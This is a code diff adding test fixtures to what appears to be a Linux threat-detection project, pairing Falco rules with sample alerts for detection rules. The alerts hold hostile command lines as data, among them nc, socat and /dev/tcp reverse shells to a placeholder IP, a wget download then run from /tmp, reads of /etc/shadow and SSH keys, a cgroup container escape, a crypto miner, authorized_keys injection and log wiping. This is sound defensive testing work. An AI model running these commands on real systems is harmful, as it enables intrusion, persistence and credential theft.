@@ -193,5 +193,138 @@ STORY_ALERTS = {
 """Linux-pack rule -> alerts over :func:`story` (why each fires: docs of the story's lines)."""
 
 
+
+def _proc_alert(rule: str, priority: str, message: str, ts_ns: int, evt_type: str, name: str, exepath: str,
+                cmdline: str, pname: str = "bash", user: str = "root", uid: int = 0, extra: dict | None = None,
+                tags: Iterable[str] = (), tty: int = 34816) -> dict[str, Any]:
+    fields = {**(extra or {}), **_tail(evt_type, user, uid, name, exepath, pname, cmdline, tty)}
+    fields.setdefault("container.id", "host")
+    return alert(rule, priority, message, fields, ts_ns, tags=tags)
+
+
+def default_rule_samples(t0_ns: int = T0_NS) -> list[tuple[str, str, list[dict[str, Any]], frozenset[str]]]:
+    """``(Falco rule, its rules file, alerts, Linux-pack rules they raise)``: one
+    realistic case per Falco rule whose output carries what a Linux-pack rule
+    reads (output fields as in falcosecurity/rules at c72713e).  The README's
+    table is this list; ``tests/test_coverage.py`` checks both."""
+    t = iter(range(t0_ns, t0_ns + 10**9, 10**6))
+    stable, sandbox, incubating = "falco_rules.yaml", "falco-sandbox_rules.yaml", "falco-incubating_rules.yaml"
+    exe_flags = {"evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER"}
+    out = []
+
+    def case(rule: str, where: str, docs: list[dict[str, Any]], *expect: str) -> None:
+        out.append((rule, where, docs, frozenset(f"kestrel.linux.{e}" for e in expect)))
+
+    def opened(rule: str, prio: str, path: str, name: str, exepath: str, cmdline: str, pname: str = "bash"):
+        return _proc_alert(rule, prio, "m", next(t), "openat", name, exepath, cmdline, pname, extra={"fd.name": path})
+
+    case("Search Private Keys or Passwords", stable, [_proc_alert(
+        "Search Private Keys or Passwords", "Warning", "Grep private keys or passwords activities found", next(t),
+        "execve", "find", "/usr/bin/find", "find / -name id_rsa", extra=exe_flags)], "private_key_search")
+    case("Read sensitive file untrusted", stable, [opened(
+        "Read sensitive file untrusted", "Warning", "/etc/shadow", "cat", "/usr/bin/cat", "cat /etc/shadow")],
+        "shadow_file_open")
+    case("Read sensitive file trusted after startup", stable, [opened(
+        "Read sensitive file trusted after startup", "Warning", "/etc/shadow", "sshd", "/usr/sbin/sshd", "sshd -D",
+        "sshd")])
+    case("Read ssh information", incubating, [opened(
+        "Read ssh information", "Error", "/home/alice/.ssh/id_ed25519", "python3", "/usr/bin/python3.11",
+        "python3 steal.py")], "ssh_private_key_read")
+    case("Execution from /dev/shm", stable, [_proc_alert(
+        "Execution from /dev/shm", "Warning", "File execution detected from /dev/shm", next(t), "execve", "x",
+        "/dev/shm/x", "x", extra=exe_flags)], "exec_from_tmp")
+    case("Drop and execute new binary in container", stable, [_proc_alert(
+        "Drop and execute new binary in container", "Critical", "Executing binary not part of base image", next(t),
+        "execve", "kinsing", "/tmp/.cache/kinsing", "kinsing", "sh",
+        extra={**exe_flags, "proc.exe": "/tmp/.cache/kinsing", "container.id": "3ad7b26ded6d"})],
+        "exec_from_tmp", "crypto_miner")
+    case("Fileless execution via memfd_create", stable, [_proc_alert(
+        "Fileless execution via memfd_create", "Critical", "Fileless execution via memfd_create", next(t), "execve",
+        "3", "/memfd:payload (deleted)", "3", extra={"evt.res": "SUCCESS", **exe_flags})], "memfd_exec")
+    case("Set Setuid or Setgid bit", sandbox, [_proc_alert(
+        "Set Setuid or Setgid bit", "Notice", "Setuid or setgid bit is set via chmod", next(t), "fchmodat", "chmod",
+        "/usr/bin/chmod", "chmod 4755 /usr/local/bin/helper",
+        extra={"evt.arg.filename": "/usr/local/bin/helper", "evt.arg.mode": "S_ISUID|S_IRWXU|S_IXGRP|S_IXOTH"})],
+        "setuid_bit_set")
+    case("Container Drift Detected (chmod)", sandbox, [_proc_alert(
+        "Container Drift Detected (chmod)", "Error", "Drift detected (chmod)", next(t), "fchmodat", "chmod",
+        "/bin/chmod", "chmod +x /tmp/x", "sh",
+        extra={"evt.arg.filename": "/tmp/x", "evt.arg.name": None, "evt.arg.mode": "0755",
+               "container.id": "3ad7b26ded6d"})], "chmod_exec_in_tmp")
+    case("Schedule Cron Jobs", incubating, [opened(
+        "Schedule Cron Jobs", "Notice", "/etc/cron.d/sync", "tee", "/usr/bin/tee", "tee /etc/cron.d/sync")],
+        "cron_file_write")
+    case("Write below etc", sandbox, [
+        opened("Write below etc", "Error", "/etc/ld.so.preload", "tee", "/usr/bin/tee", "tee -a /etc/ld.so.preload"),
+        opened("Write below etc", "Error", "/etc/passwd", "python3", "/usr/bin/python3.11", "python3 -c ..."),
+        opened("Write below etc", "Error", "/etc/systemd/system/sync.service", "cp", "/usr/bin/cp",
+               "cp sync.service /etc/systemd/system/"),
+        opened("Write below etc", "Error", "/etc/udev/rules.d/99-x.rules", "tee", "/usr/bin/tee", "tee x")],
+        "ld_so_preload_write", "account_db_unusual_writer", "systemd_unit_write", "udev_rule_write")
+    case("Write below root", sandbox, [opened(
+        "Write below root", "Error", "/root/.bashrc", "bash", "/usr/bin/bash", "bash")], "shell_profile_write")
+    case("Modify Shell Configuration File", incubating, [opened(
+        "Modify Shell Configuration File", "Warning", "/home/alice/.profile", "sh", "/usr/bin/dash",
+        "sh -c echo >> ~/.profile")], "shell_profile_write")
+    case("Adding ssh keys to authorized_keys", incubating, [opened(
+        "Adding ssh keys to authorized_keys", "Warning", "/root/.ssh/authorized_keys", "sh", "/usr/bin/dash",
+        "sh -c echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys")], "ssh_authorized_keys_write")
+    case("Detect release_agent File Container Escapes", stable, [opened(
+        "Detect release_agent File Container Escapes", "Critical", "/tmp/cg/release_agent", "sh", "/bin/sh",
+        "sh -c echo /cmd > /tmp/cg/release_agent")], "cgroup_release_agent_write")
+    case("Netcat Remote Code Execution in Container", stable, [_proc_alert(
+        "Netcat Remote Code Execution in Container", "Warning", "Netcat runs inside container", next(t), "execve",
+        "nc", "/usr/bin/nc.traditional", "nc -e /bin/sh 203.0.113.9 4444", "sh",
+        extra={"container.id": "3ad7b26ded6d"})], "netcat_exec_shell")
+    case("Netcat/Socat Remote Code Execution on Host", sandbox, [_proc_alert(
+        "Netcat/Socat Remote Code Execution on Host", "Warning", "Netcat/Socat runs on host", next(t), "execve",
+        "socat", "/usr/bin/socat", "socat exec:/bin/bash,pty,stderr tcp:203.0.113.9:4444")], "socat_reverse_shell")
+    case("Run shell untrusted", stable, [_proc_alert(
+        "Run shell untrusted", "Notice", "Shell spawned by untrusted binary", next(t), "execve", "sh",
+        "/usr/bin/dash", "sh -c id;uname -a", "nginx", "www-data", 33, tty=0)],
+        "web_server_spawns_shell", "webshell_recon")
+    case("Reverse Shell from Web Server", sandbox, [_proc_alert(
+        "Reverse Shell from Web Server", "Critical", "Reverse shell spawned from web server", next(t), "execve",
+        "bash", "/usr/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "apache2", "www-data", 33,
+        tty=0)], "web_server_spawns_shell", "reverse_shell_dev_tcp")
+    case("Detect crypto miners using the Stratum protocol", sandbox, [_proc_alert(
+        "Detect crypto miners using the Stratum protocol", "Critical", "Possible miner running", next(t), "execve",
+        "xmrig", "/opt/x/xmrig", "xmrig -o stratum+tcp://pool.example.net:3333")], "crypto_miner")
+    case("Sudo Potential Privilege Escalation", sandbox, [_proc_alert(
+        "Sudo Potential Privilege Escalation", "Critical", "Detect Sudo Privilege Escalation Exploit", next(t),
+        "execve", "sudoedit", "/usr/bin/sudoedit", "sudoedit -s \\ 1111111111", user="alice", uid=1000)],
+        "sudo_exploit_attempt")
+    case("User mgmt binaries", incubating, [
+        _proc_alert("User mgmt binaries", "Notice", "User management binary command run outside of container",
+                    next(t), "execve", "useradd", "/usr/sbin/useradd", "useradd -m -s /bin/bash svc"),
+        opened("Write below etc", "Error", "/etc/sudoers.d/svc", "tee", "/usr/bin/tee", "tee /etc/sudoers.d/svc")],
+        "user_account_created", "sudoers_modified", "seq_new_user_then_sudoers")
+    case("Delete or rename shell history", incubating, [_proc_alert(
+        "Delete or rename shell history", "Warning", "Shell history deleted or renamed", next(t), "unlinkat", "rm",
+        "/usr/bin/rm", "rm -f /root/.bash_history",
+        extra={"fd.name": None, "evt.arg.name": "/root/.bash_history", "evt.arg.path": None,
+               "evt.arg.oldpath": None})], "history_file_deleted")
+    case("Interpreted procs outbound network activity", sandbox, [_proc_alert(
+        "Interpreted procs outbound network activity", "Notice", "Interpreted program performed outgoing network "
+        "connection", next(t), "connect", "python3", "/usr/bin/python3.11", "python3 -c import socket",
+        extra={"fd.name": "10.0.0.5:51000->203.0.113.5:4444", "fd.lport": 51000, "fd.rport": 4444,
+               "fd.type": "ipv4", "fd.l4proto": "tcp"})], "shell_connects_to_rare_port")
+    case("Linux Kernel Module Injection Detected", stable, [_proc_alert(
+        "Linux Kernel Module Injection Detected", "Warning", "Linux Kernel Module injection from container", next(t),
+        "finit_module", "python3", "/usr/bin/python3.11", "python3 load.py",
+        extra={"proc.pexepath": "/usr/bin/bash", "proc.args": "load.py", "evt.res": "SUCCESS",
+               "container.id": "3ad7b26ded6d"})], "kernel_module_unusual_loader")
+    case("Launch Ingress Remote File Copy Tools in Container", incubating, [
+        _proc_alert("Launch Ingress Remote File Copy Tools in Container", "Notice", "Ingress remote file copy tool "
+                    "launched in container", next(t), "execve", "wget", "/usr/bin/wget",
+                    "wget -q http://198.51.100.7/x -O /tmp/x", "sh", extra={"container.id": "3ad7b26ded6d"}),
+        _proc_alert("Drop and execute new binary in container", "Critical", "Executing binary not part of base image",
+                    next(t), "execve", "x", "/tmp/x", "x", "sh", extra={"container.id": "3ad7b26ded6d"})],
+        "seq_download_tool_then_tmp_exec", "exec_from_tmp")
+    case("Clear Log Activities", stable, [opened(
+        "Clear Log Activities", "Warning", "/var/log/auth.log", "truncate", "/usr/bin/truncate",
+        "truncate -s0 /var/log/auth.log")])
+    return out
+
 if __name__ == "__main__":
     sys.stdout.write("".join(line(doc) + "\n" for doc in story()))
